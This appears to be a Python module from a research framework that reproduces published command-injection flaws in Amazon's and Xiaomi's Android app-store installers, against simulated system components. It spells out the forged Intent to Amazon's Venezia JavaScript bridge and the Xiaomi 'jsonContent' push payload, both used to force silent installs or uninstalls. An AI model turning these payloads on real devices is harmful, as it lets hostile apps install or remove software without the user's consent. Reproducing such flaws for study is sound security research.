"""Command injection into installer interfaces — AIT Step 1
(Section III-D, "Command injection").

Two real-world holes are reproduced:

- **Amazon**: the public ``Venezia`` activity feeds Intent extras to a
  JavaScript-Java bridge without authenticating the sender or filtering
  script, so a background app can drive Amazon's private install/
  uninstall services.  ``single_top`` keeps the existing activity alive
  so the injected state survives.
- **Xiaomi**: the cloud-push BroadcastReceiver accepts any broadcast;
  a forged ``jsonContent`` payload makes the store silently install the
  app it names.
"""

from __future__ import annotations

import json

from repro.android.intents import FLAG_ACTIVITY_SINGLE_TOP, Intent
from repro.attacks.base import MaliciousApp
from repro.core.ait import AITStep
from repro.core.outcomes import AttackResult
from repro.installers.amazon import AMAZON_PACKAGE, VENEZIA_JS_EXTRA
from repro.installers.xiaomi import XIAOMI_PUSH_ACTION


class AmazonJsInjectionAttacker(MaliciousApp):
    """Injects commands into Amazon's JS-Java bridge."""

    def inject_install(self, target_package: str) -> bool:
        """Command Amazon to silently install ``target_package``."""
        return self._inject({"op": "install", "package": target_package})

    def inject_uninstall(self, target_package: str) -> bool:
        """Command Amazon to silently uninstall ``target_package``."""
        return self._inject({"op": "uninstall", "package": target_package})

    def result(self, target_package: str, expect_installed: bool) -> AttackResult:
        """Check whether the injected command took effect."""
        installed = self.system.pms.is_installed(target_package)
        succeeded = installed if expect_installed else not installed
        return AttackResult(
            attack_name="amazon-js-injection",
            ait_step=AITStep.INVOCATION,
            succeeded=succeeded,
            detail={"target": target_package},
        )

    def _inject(self, command: dict) -> bool:
        intent = Intent(
            target_package=AMAZON_PACKAGE,
            target_activity="com.amazon.venezia.Venezia",
            flags=FLAG_ACTIVITY_SINGLE_TOP,
        ).with_extra(VENEZIA_JS_EXTRA, json.dumps(command))
        return self.start_activity(intent)


class XiaomiPushForgeryAttacker(MaliciousApp):
    """Forges Xiaomi cloud-push broadcasts."""

    def forge_push(self, app_id: str, package_name: str) -> int:
        """Broadcast the forged payload; returns receivers reached.

        Payload shape from the paper's footnote:
        ``{"jsonContent":"{\"type\":\"app\",\"appId\":...,
        \"packageName\":...}"}``.
        """
        json_content = json.dumps(
            {"type": "app", "appId": app_id, "packageName": package_name}
        )
        return self.send_broadcast(
            XIAOMI_PUSH_ACTION, {"jsonContent": json_content}
        )

    def result(self, target_package: str) -> AttackResult:
        """Did the forged push end in a silent install?"""
        return AttackResult(
            attack_name="xiaomi-push-forgery",
            ait_step=AITStep.INVOCATION,
            succeeded=self.system.pms.is_installed(target_package),
            detail={"target": target_package},
        )
